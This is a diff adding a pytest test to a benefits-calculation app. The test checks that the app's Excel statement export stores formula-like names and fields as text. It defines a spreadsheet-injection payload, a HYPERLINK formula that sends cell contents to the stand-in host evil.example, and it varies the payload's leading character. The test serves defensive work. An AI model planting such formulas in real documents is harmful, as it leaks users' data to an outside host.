@@ -163,3 +163,40 @@ def test_a_trace_of_2026_links_each_figure_to_the_2025_code(login_as, make_user)
         ("CC", "1011"),
     ]
     assert [(c.code, c.number) for c in law.cited("235, 230")] == [("LC-2004", "235"), ("LC-2004", "230")]
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_statement_workbook_keeps_a_formula_like_name_as_text(app, start):
+    from calculator.documents import statement_xlsx
+
+    hostile = start + HOSTILE[1:]
+    case = {"calculation_date": "2026-11-26", "survivors": [{"id": "s1", "name": hostile}]}
+    item = {
+        "component": hostile,
+        "recipient": "s1",
+        "period": hostile,
+        "amount": "100.00",
+        "due_date": "2026-11-30",
+        "paid": "0",
+        "outstanding": "100.00",
+        "days_overdue": 0,
+        "penalty": "0",
+    }
+    result = {
+        "average_monthly_earnings": {"amount": "5000.00", "method": hostile},
+        "installments": [item],
+        "totals": {"accrued": "100.00"},
+        "trace": [{"article": hostile, "rule": hostile, "result": hostile}],
+    }
+    with app.test_request_context():
+        body = statement_xlsx(case, result, hostile)
+
+    book = load_workbook(io.BytesIO(body))
+    texts = [c for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row]
+    kept = ("'" + hostile).replace("\r", "\n")  # XML reads a CR back as a line feed
+    assert texts.count(kept) >= 8  # title, method, component, name, period, the trace's three
+    assert not [c for c in texts if isinstance(c, str) and c.startswith(start.replace("\r", "\n"))]
+    assert 100 in texts  # numbers stay numbers
